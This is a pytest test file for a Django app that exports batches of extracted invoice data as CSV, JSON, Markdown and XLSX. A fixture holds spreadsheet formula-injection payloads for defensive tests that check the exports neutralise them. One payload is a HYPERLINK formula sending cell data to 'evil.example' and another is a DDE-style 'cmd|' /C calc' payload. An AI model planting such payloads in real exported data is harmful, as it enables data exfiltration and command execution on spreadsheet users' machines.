from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timedelta
from typing import Any

import openpyxl
import pytest
from django.utils import timezone

from accounts.models import User
from batches.exports import EXPORT_FORMATS, Export, batch_export
from batches.models import BatchProcess
from documents.models import Document
from tests.factories import BatchFactory, DocumentFactory

pytestmark = pytest.mark.django_db

UPLOADED_AT = timezone.now() - timedelta(days=1)

FIELDS = [
    {"name": "invoice number", "type": "string", "description": "As printed"},
    {"name": "date", "type": "date", "description": ""},
    {"name": "total", "type": "number", "description": "Grand total"},
    {"name": "paid", "type": "boolean", "description": ""},
    {"name": "items", "type": "list", "description": ""},
    {"name": "notes", "type": "string", "description": ""},
]

COMPLETED_RESULT = {
    "engine": "local",
    "model": None,
    "fields": {
        "invoice number": {"value": "INV-001", "quote": "INV-001", "page": 1, "verified": True},
        "date": {"value": "2024-03-01", "quote": "1 March 2024", "page": 1, "verified": True},
        "total": {
            "value": "1234.50",
            "quote": "$1,234.50",
            "page": 2,
            "verified": True,
            "currency": "USD",
        },
        "paid": {"value": True, "quote": None, "page": None, "verified": False},
        "items": {"value": ["Widget", "Gadget"], "quote": None, "page": 1, "verified": True},
        "notes": {"value": None, "quote": None, "page": None, "verified": False},
    },
}

NAMES = ["invoice number", "date", "total", "paid", "items", "notes"]
HEADER = [
    "filename",
    "status",
    "error_code",
    "error_message",
    "engine",
    "cost_usd",
    "checks",
    *(column for name in NAMES for column in (name, f"{name} verified", f"{name} status")),
]
# The total's value carries a currency: it gets a column of its own, after the value.
HEADER.insert(HEADER.index("total") + 1, "total currency")
NO_VALUES = ["", "", "missing"] * 2 + ["", "", "", "missing"] + ["", "", "missing"] * 3
NO_TEXT_LAYER = "page 1 of scan.pdf is an image with no text layer"
ROWS = [
    HEADER,
    [
        "invoice-1.pdf",
        "completed",
        "",
        "",
        "local",
        "",
        "",
        "INV-001",
        "true",
        "found",
        "2024-03-01",
        "true",
        "found",
        # A number cell never carries the currency: it has its own column.
        "1234.50",
        "USD",
        "true",
        "found",
        "true",
        "false",
        "unverified",
        "Widget; Gadget",
        "true",
        "found",
        "",
        "",
        "missing",
    ],
    ["scan.pdf", "failed", "no_text_layer", NO_TEXT_LAYER, "", "", "", *NO_VALUES],
    ["later.pdf", "queued", "", "", "", "", "", *NO_VALUES],
]

ATTACKS = {
    "invoice number": '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
    "date": "+1",
    "total": "-2",
    "paid": "@SUM(1+1)*cmd|' /C calc'!A0",
    "items": "\t=1+1",
    "notes": "\r=1+1",
}


def add_document(batch: BatchProcess, position: int, **kwargs: Any) -> Document:
    """A document uploaded `position` seconds into the batch, so upload order is unambiguous."""
    document = DocumentFactory(batch=batch, **kwargs)
    Document.objects.filter(pk=document.pk).update(
        created_at=UPLOADED_AT + timedelta(seconds=position)
    )
    return document


def result_with(values: dict[str, Any], engine: str = "local") -> dict[str, Any]:
    return {
        "engine": engine,
        "model": None,
        "fields": {
            name: {"value": value, "quote": None, "page": None, "verified": False}
            for name, value in values.items()
        },
    }


@pytest.fixture
def batch(alice: User) -> BatchProcess:
    """Uploaded in this order: the queued one last, the completed one first."""
    batch = BatchFactory(
        user=alice,
        name="Q3 Invoices — ACME",
        extraction_prompt="Invoice number, date, total, whether it is paid, the line items, notes",
        fields=FIELDS,
        status=BatchProcess.Status.COMPLETED_WITH_ERRORS,
        engine=BatchProcess.Engine.LOCAL,
    )
    add_document(batch, 3, original_filename="later.pdf")
    add_document(
        batch,
        1,
        original_filename="invoice-1.pdf",
        status=Document.Status.COMPLETED,
        attempts=1,
        page_count=2,
        result=COMPLETED_RESULT,
        completed_at=UPLOADED_AT + timedelta(minutes=1),
    )
    add_document(
        batch,
        2,
        original_filename="scan.pdf",
        status=Document.Status.FAILED,
        attempts=1,
        page_count=1,
        error_code="no_text_layer",
        error_message=NO_TEXT_LAYER,
        error_kind=Document.ErrorKind.PERMANENT,
    )
    return batch


@pytest.fixture
def hostile_batch(alice: User) -> BatchProcess:
    batch = BatchFactory(user=alice, name="Hostile", fields=FIELDS)
    add_document(
        batch,
        1,
        original_filename="=cmd.pdf",
        status=Document.Status.COMPLETED,
        result=result_with(ATTACKS),
    )
    return batch


def csv_rows(export: Export) -> list[list[str]]:
    assert export.content.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"), newline="")))


def workbook(export: Export) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(export.content))


def sheet_rows(export: Export, sheet: str) -> list[list[str]]:
    rows = workbook(export)[sheet].iter_rows(values_only=True)
    return [["" if value is None else value for value in row] for row in rows]


def markdown_tables(export: Export) -> list[list[list[str]]]:
    """Every table of the report, each as rows split on unescaped pipes, separators left out."""
    tables: list[list[list[str]]] = []
    previous = ""
    for line in export.content.decode("utf-8").splitlines():
        if line.startswith("|"):
            if not previous.startswith("|"):
                tables.append([])
            row = [cell.strip() for cell in re.split(r"(?<!\\)\|", line)[1:-1]]
            if set(row) != {"---"}:
                tables[-1].append(row)
        previous = line
    return tables


def markdown_table(export: Export) -> list[list[str]]:
    """The report's summary table: a row per document."""
    return markdown_tables(export)[0]


def test_an_unknown_format_is_a_value_error(batch: BatchProcess) -> None:
    with pytest.raises(ValueError, match="pdf"):
        batch_export(batch=batch, fmt="pdf")


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [
        ("csv", "text/csv; charset=utf-8"),
        ("json", "application/json"),
        ("md", "text/markdown; charset=utf-8"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ],
)
def test_the_file_is_named_after_the_batch_with_the_formats_extension(
    batch: BatchProcess, fmt: str, content_type: str
) -> None:
    export = batch_export(batch=batch, fmt=fmt)

    assert export.filename == f"q3-invoices-acme-results.{fmt}"
    assert export.content_type == content_type
    assert fmt in EXPORT_FORMATS


def test_a_name_with_nothing_to_slugify_still_gives_a_filename(alice: User) -> None:
    batch = BatchFactory(user=alice, name="請求書")

    assert batch_export(batch=batch, fmt="csv").filename == "batch-results.csv"


def test_csv_has_one_row_per_document_in_upload_order_with_values_and_verification(
    batch: BatchProcess,
) -> None:
    assert csv_rows(batch_export(batch=batch, fmt="csv")) == ROWS


def test_csv_keeps_non_ascii_text_intact(alice: User) -> None:
    batch = BatchFactory(user=alice, fields=[{"name": "Lieferant", "type": "string"}])
    add_document(
        batch,
        1,
        original_filename="Rechnung-Müller.pdf",
        status=Document.Status.COMPLETED,
        result=result_with({"Lieferant": "Müller & Söhne, Zürich"}),
    )

    rows = csv_rows(batch_export(batch=batch, fmt="csv"))

    assert rows[1][0] == "Rechnung-Müller.pdf"
    assert rows[1][rows[0].index("Lieferant")] == "Müller & Söhne, Zürich"


def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(
    hostile_batch: BatchProcess,
) -> None:
    header, row = csv_rows(batch_export(batch=hostile_batch, fmt="csv"))
    cells = dict(zip(header, row, strict=True))

    assert cells["filename"] == "'=cmd.pdf"
    for name, attack in ATTACKS.items():
        assert cells[name] == f"'{attack}"
    # OWASP's advice: legitimately negative numbers are prefixed too.
    assert cells["total"] == "'-2"


def test_json_carries_the_batch_and_each_documents_raw_result(batch: BatchProcess) -> None:
    data = json.loads(batch_export(batch=batch, fmt="json").content.decode("utf-8"))

    assert data["batch"] == {
        "id": str(batch.id),
        "name": "Q3 Invoices — ACME",
        "status": "completed_with_errors",
        "engine": "local",
        "prompt": batch.extraction_prompt,
        "fields": FIELDS,
        "created_at": data["batch"]["created_at"],
        "completed_at": None,
        "checks": None,
    }
    assert data["batch"]["created_at"].startswith(str(batch.created_at.date()))
    completed, failed, queued = data["documents"]
    assert [completed["filename"], failed["filename"], queued["filename"]] == [
        "invoice-1.pdf",
        "scan.pdf",
        "later.pdf",
    ]
    assert completed["status"] == "completed"
    assert completed["pages"] == 2
    assert completed["attempts"] == 1
    assert completed["error"] is None
    # The machine's result, each value with its review beside it (none here).
    assert completed["result"] == {
        **COMPLETED_RESULT,
        "fields": {
            name: {**cell, "review": None} for name, cell in COMPLETED_RESULT["fields"].items()
        },
    }
    assert completed["result"]["fields"]["total"]["value"] == "1234.50"
    assert completed["result"]["fields"]["items"]["value"] == ["Widget", "Gadget"]
    assert failed["error"] == {
        "code": "no_text_layer",
        "message": NO_TEXT_LAYER,
        "kind": "permanent",
    }
    assert failed["result"] is None
    assert queued == {
        "id": queued["id"],
        "filename": "later.pdf",
        "status": "queued",
        "attempts": 0,
        "pages": None,
        "error": None,
        "result": None,
        "cost_usd": None,
    }


def test_markdown_is_a_report_summary_first_then_each_document_with_its_quotes(
    batch: BatchProcess,
) -> None:
    export = batch_export(batch=batch, fmt="md")
    text = export.content.decode("utf-8")
    lines = text.splitlines()

    assert lines[0] == "# Q3 Invoices — ACME"
    status_line = next(line for line in lines[1:] if line.strip())
    assert "Completed with errors" in status_line
    assert "Offline (local)" in status_line
    assert "3 documents, 1 completed" in status_line
    summary, invoice = markdown_tables(export)
    assert summary == [
        [
            *("filename", "status", "checks", "invoice number", "date", "total"),
            *("total currency", "paid", "items", "notes"),
        ],
        [
            *("invoice-1.pdf", "completed", "", "INV-001", "2024-03-01", "1234.50", "USD"),
            *("true", "Widget; Gadget", ""),
        ],
        ["scan.pdf", "failed", "", "", "", "", "", "", "", ""],
        ["later.pdf", "queued", "", "", "", "", "", "", "", ""],
    ]
    assert text.index("## invoice-1.pdf") < text.index("## scan.pdf") < text.index("## later.pdf")
    assert invoice == [
        ["field", "value", "status", "page", "quote"],
        ["invoice number", "INV-001", "found", "1", "INV-001"],
        ["date", "2024-03-01", "found", "1", "1 March 2024"],
        ["total", "1234.50 USD", "found", "2", "$1,234.50"],
        ["paid", "true", "unverified", "", ""],
        ["items", "Widget; Gadget", "found", "1", ""],
        ["notes", "", "missing", "", ""],
    ]
    assert f"Failed: `no_text_layer` {NO_TEXT_LAYER}" in text


def test_markdown_marks_a_reviewed_value_and_keeps_what_was_extracted(
    batch: BatchProcess,
) -> None:
    document = batch.documents.get(original_filename="invoice-1.pdf")
    document.reviews = {"total": {"value": "1243.50", "by": "alice@example.com", "at": "now"}}
    document.reviewed_at = timezone.now()
    document.save(update_fields=["reviews", "reviewed_at"])

    export = batch_export(batch=batch, fmt="md")

    summary, invoice = markdown_tables(export)
    assert summary[1][5] == "1243.50 (reviewed)"
    assert invoice[3][:2] == ["total", "1243.50 USD"]
    assert invoice[3][2] == "reviewed by alice@example.com (extracted: 1234.50)"
    assert "1 reviewed by a person" in export.content.decode()


def test_markdown_escapes_pipes_and_newlines_so_each_document_stays_one_row(
    alice: User,
) -> None:
    batch = BatchFactory(user=alice, fields=[{"name": "a|b", "type": "string"}])
    add_document(
        batch,
        1,
        original_filename="x.pdf",
        status=Document.Status.COMPLETED,
        result=result_with({"a|b": "left | right\nsecond line\r\nthird"}),
    )

    export = batch_export(batch=batch, fmt="md")
    text = export.content.decode("utf-8")

    assert "left \\| right<br>second line<br>third" in text
    assert "| filename | status | checks | a\\|b |" in text
    header, row = markdown_table(export)
    assert len(header) == len(row) == 4


def test_markdown_leaves_formula_looking_cells_as_they_are(hostile_batch: BatchProcess) -> None:
    header, row = markdown_table(batch_export(batch=hostile_batch, fmt="md"))
    cells = dict(zip(header, row, strict=True))

    assert cells["filename"] == "=cmd.pdf"
    assert cells["date"] == "+1"
    assert cells["total"] == "-2"


def test_xlsx_results_sheet_has_the_same_rows_as_csv_with_a_bold_header(
    batch: BatchProcess,
) -> None:
    export = batch_export(batch=batch, fmt="xlsx")
    book = workbook(export)

    assert book.sheetnames == ["Results", "Batch"]
    header, *rows = sheet_rows(export, "Results")
    assert header == HEADER
    # Typed as the fields are: a date is a date, a number a number, a boolean a boolean.
    assert rows[0][:7] == ROWS[1][:7]
    cells = dict(zip(header, rows[0], strict=True))
    assert cells["date"] == datetime(2024, 3, 1)
    assert cells["total"] == 1234.5
    assert cells["paid"] is True
    assert cells["invoice number verified"] is True
    assert cells["paid status"] == "unverified"
    assert [row[0] for row in rows] == ["invoice-1.pdf", "scan.pdf", "later.pdf"]
    # Each column as wide as its longest cell: a filename or an amount shows whole.
    widths = {
        cell.value: book["Results"].column_dimensions[cell.column_letter].width
        for cell in book["Results"][1]
    }
    assert widths["filename"] >= len("invoice-1.pdf") and widths["error_message"] >= len(
        NO_TEXT_LAYER
    )
    assert widths["total"] < widths["error_message"] <= 50
    assert all(cell.font.bold for cell in book["Results"][1])
    assert not any(cell.font.bold for cell in book["Results"][2])


def test_xlsx_batch_sheet_has_the_prompt_and_the_fields(batch: BatchProcess) -> None:
    rows = [
        [cell for cell in row if cell]
        for row in sheet_rows(batch_export(batch=batch, fmt="xlsx"), "Batch")
    ]

    assert ["Name", "Q3 Invoices — ACME"] in rows
    assert ["Prompt", batch.extraction_prompt] in rows
    assert ["Engine", "Offline (local)"] in rows
    assert ["Documents", 3] in rows and ["Completed", 1] in rows and ["Failed", 1] in rows
    fields_at = rows.index(["Field", "Type", "Description"])
    assert rows[fields_at + 1 :] == [
        [cell for cell in (spec["name"], spec["type"], spec["description"]) if cell]
        for spec in FIELDS
    ]


def test_xlsx_stores_formula_looking_cells_as_quoted_text(hostile_batch: BatchProcess) -> None:
    sheet = workbook(batch_export(batch=hostile_batch, fmt="xlsx"))["Results"]
    cells = {header.value: cell for header, cell in zip(sheet[1], sheet[2], strict=True)}

    # A number field's "-2" is a number, not text a spreadsheet could run.
    assert cells["total"].value == -2
    assert cells["total"].data_type == "n"
    texts = [(name, attack) for name, attack in ATTACKS.items() if name != "total"]
    for name, attack in [("filename", "=cmd.pdf"), *texts]:
        assert cells[name].data_type != "f", name
        # A stored carriage return reads back as a line feed with the standard library's XML
        # parser and as itself with lxml's (openpyxl uses lxml when it is installed).
        assert cells[name].value.replace("\r", "\n") == f"'{attack}".replace("\r", "\n"), name


def test_xlsx_drops_control_characters_before_checking_for_formulas(alice: User) -> None:
    batch = BatchFactory(user=alice, fields=[{"name": "memo", "type": "string"}])
    add_document(
        batch,
        1,
        status=Document.Status.COMPLETED,
        result=result_with({"memo": "\x01=1+1"}),
    )

    sheet = workbook(batch_export(batch=batch, fmt="xlsx"))["Results"]

    assert sheet["H1"].value == "memo"
    assert sheet["H2"].data_type != "f"
    assert sheet["H2"].value == "'=1+1"


def test_a_batch_without_fields_uses_its_prompt_then_other_names_found_in_results(
    alice: User,
) -> None:
    batch = BatchFactory(user=alice, fields=[], extraction_prompt="vendor and total")
    add_document(
        batch,
        1,
        status=Document.Status.COMPLETED,
        result=result_with({"vendor": "ACME", "total": "10.00"}),
    )
    add_document(batch, 2, status=Document.Status.FAILED, error_code="malformed")
    add_document(
        batch,
        3,
        status=Document.Status.COMPLETED,
        result=result_with({"total": "20.00", "due date": "2024-04-01"}, engine="anthropic"),
    )

    header, first, failed, last = csv_rows(batch_export(batch=batch, fmt="csv"))

    assert header[7:] == [
        "vendor",
        "vendor verified",
        "vendor status",
        "total",
        "total verified",
        "total status",
        "due date",
        "due date verified",
        "due date status",
    ]
    assert first[4:] == [
        "local", "", "", "ACME", "false", "unverified", "10.00", "false", "unverified",
        "", "", "missing",
    ]  # fmt: skip
    assert failed[4:] == ["", "", "", *["", "", "missing"] * 3]
    assert last[4:] == [
        "anthropic", "", "", "", "", "missing", "20.00", "false", "unverified",
        "2024-04-01", "false", "unverified",
    ]  # fmt: skip
